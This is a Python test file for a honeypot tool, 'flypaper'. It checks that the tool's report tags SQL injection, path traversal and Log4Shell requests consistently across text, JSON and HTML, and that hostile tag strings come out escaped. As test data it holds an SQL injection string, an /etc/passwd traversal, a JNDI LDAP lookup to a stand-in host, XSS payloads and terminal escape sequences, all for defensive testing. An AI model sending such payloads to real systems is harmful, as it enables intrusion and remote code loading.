"""Techniques in the report end to end: a real serve on loopback with the
shipped rules, real requests carrying techniques (curl with an SQL
injection, a raw socket's path traversal, Log4Shell headers from two
sources), then `flypaper report` in text, JSON and HTML shows each tag with
the same counts, sources and families; a database before schema 6 says
"no tags: run flypaper rescan"; hostile tag strings planted in a copy of
the database come out escaped in every format."""
import json
import re
import shutil
import sqlite3
import subprocess

from conftest import FLYPAPER, ROOT, query, send_from, wait_for
from test_escape import assert_html_safe, assert_terminal_safe
from test_shape import curl

LOG4J = b"GET / HTTP/1.1\r\nHost: h\r\nX-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n\r\n"


def report(db, fmt):
    r = subprocess.run([FLYPAPER, "report", "--db", db, "--format", fmt],
                       capture_output=True, timeout=120)
    assert r.returncode == 0, r.stderr
    return r.stdout


def text_techniques(text):
    """The text report's technique rows: {tag: (sessions, sources, families)}."""
    block = text.split("\ntechniques (", 1)[1].split("\n\n", 1)[0].split("\n")
    rows = {}
    for line in block[1:]:
        m = re.match(r"  (\S+) +(\d+) sessions +(\d+) sources +\S+ \.\. \S+ (?: families: (.*))?$",
                     line)
        assert m, line
        fams = [(f.rsplit(" ", 1)[0], int(f.rsplit(" ", 1)[1]))
                for f in (m.group(4) or "").split(", ") if f]
        rows[m.group(1)] = (int(m.group(2)), int(m.group(3)), fams)
    return block[0], rows


def html_techniques(html):
    table = re.search(r'<table id="techniques">.*?</table>', html, re.S).group(0)
    rows = {}
    for tag, n, s, fams in re.findall(r"<tr><td>([^<]*)</td><td>(\d+)</td><td>(\d+)</td>"
                                      r"<td>[^<]*</td><td>[^<]*</td><td[^>]*>([^<]*)</td></tr>",
                                      table):
        rows[tag] = (int(n), int(s), [(f.rsplit(" ", 1)[0], int(f.rsplit(" ", 1)[1]))
                                      for f in fams.split(", ") if f])
    return rows


def json_techniques(r):
    return {t["tag"]: (t["sessions"], t["sources"], [tuple(f) for f in t["families"]])
            for t in r["techniques"]["top"]}


def serve_techniques(daemons):
    assert shutil.which("curl"), "curl is needed (Debian package curl)"
    d = daemons(workers=1, args=["--rules", f"{ROOT}/rules", "--respond", "http-nginx"])
    for _ in range(2):
        curl(d.port, "127.0.11.1", "/?id=1%27%20OR%201=1--")
    send_from(d.port, "127.0.11.2", b"GET /../../etc/passwd HTTP/1.1\r\nHost: h\r\n\r\n")
    send_from(d.port, "127.0.11.3", LOG4J)
    send_from(d.port, "127.0.11.1", LOG4J)
    send_from(d.port, "127.0.11.4", b"GET /index.html HTTP/1.1\r\nHost: h\r\n\r\n")
    d.wait_sessions(6)
    wait_for(lambda: query(d.db, "SELECT count(*) FROM sessions WHERE class_state = 'pending'")
             [0][0] == 0, what="every session classified")
    assert d.stop() == 0
    return d.db


WANT = {
    "sqli": (2, 1, [("none", 2)]),
    "path-traversal": (1, 1, [("none", 1)]),
    "lfi": (1, 1, [("none", 1)]),
    "jndi": (2, 2, [("log4shell", 2)]),
    "cve-2021-44228": (2, 2, [("log4shell", 2)]),
}


def test_report_techniques_agree_in_every_format(daemons):
    db = serve_techniques(daemons)
    stored = query(db, "SELECT tags FROM sessions WHERE tags IS NOT NULL ORDER BY tags")
    assert [t for (t,) in stored] == ["cve-2021-44228,jndi"] * 2 + ["lfi,path-traversal"] + \
        ["sqli"] * 2
    r = json.loads(report(db, "json"))
    assert json_techniques(r) == WANT
    t = r["techniques"]
    assert (t["sessions"], t["distinct"], t["over_cap"], t["untagged"]) == (5, 5, 0, 0)
    # most sessions first, ties by tag
    assert [x["tag"] for x in t["top"]] == ["cve-2021-44228", "jndi", "sqli", "lfi",
                                           "path-traversal"]
    for x in t["top"]:
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT[0-9:.]+Z", x["first_seen"])
        assert x["first_seen"] <= x["last_seen"]
    head, rows = text_techniques(report(db, "text").decode())
    assert head == "5 sessions with a technique tag, 5 distinct tags)"
    assert rows == WANT
    html = report(db, "html").decode()
    assert "<p>5 sessions with a technique tag, 5 distinct tags.</p>" in html
    assert html_techniques(html) == WANT


def copy_db(db, path):
    """A copy of db with what its write-ahead log holds."""
    src, dst = sqlite3.connect(db), sqlite3.connect(path)
    src.backup(dst)
    src.close()
    dst.close()
    return path


def test_report_techniques_of_an_old_database_say_rescan(daemons, tmp_path):
    db = serve_techniques(daemons)
    old = copy_db(db, str(tmp_path / "old.db"))
    con = sqlite3.connect(old)
    con.execute("ALTER TABLE sessions DROP COLUMN tags")
    con.commit()
    con.close()
    r = json.loads(report(old, "json"))
    assert (r["techniques"]["untagged"], r["techniques"]["top"]) == (6, [])
    assert "6 with a payload in a database before schema 6, no tags: run flypaper rescan" \
        in report(old, "text").decode()
    assert "no tags: run flypaper rescan" in report(old, "html").decode()
    # merged with the new one, its tags still count
    r = subprocess.run([FLYPAPER, "report", "--db", old, "--db", db, "--format", "json"],
                       capture_output=True, timeout=120)
    assert r.returncode == 0, r.stderr
    t = json.loads(r.stdout)["techniques"]
    assert (t["untagged"], t["sessions"], t["top"][0]["sessions"]) == (6, 5, 2)


HOSTILE_TAGS = ["<script>alert(1)</script>", "\x1b]0;owned\x07,sqli,sqli,,",
                "\"><img src=x onerror=alert(1)>," + "A" * 5000, "\u2028\u009b31m,sqli"]


def test_report_techniques_escape_hostile_tags(daemons, tmp_path):
    db = serve_techniques(daemons)
    bad = copy_db(db, str(tmp_path / "bad.db"))
    con = sqlite3.connect(bad)
    sids = [s for (s,) in con.execute("SELECT session FROM sessions ORDER BY session")]
    for sid, tags in zip(sids, HOSTILE_TAGS):
        con.execute("UPDATE sessions SET tags = ? WHERE session = ?", (tags, sid))
    con.execute("UPDATE sessions SET tags = CAST(X'00ff3cb3' AS TEXT) WHERE session = ?",
                (sids[4],))
    con.commit()
    con.close()
    text = report(bad, "text")
    assert_terminal_safe(text, "report text")
    page = report(bad, "html")
    assert_html_safe(page)
    r = json.loads(report(bad, "json"))
    tags = {t["tag"]: t for t in r["techniques"]["top"]}
    assert tags["sqli"]["sessions"] == 2       # named twice in one session: once
    assert "<script>alert(1)</script>" in tags            # JSON quotes it itself
    assert "\\x1b]0;owned\\x07" in tags                   # control bytes escaped
    assert max(len(t) for t in tags) <= 64 * 4             # a tag is cut
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.decode()
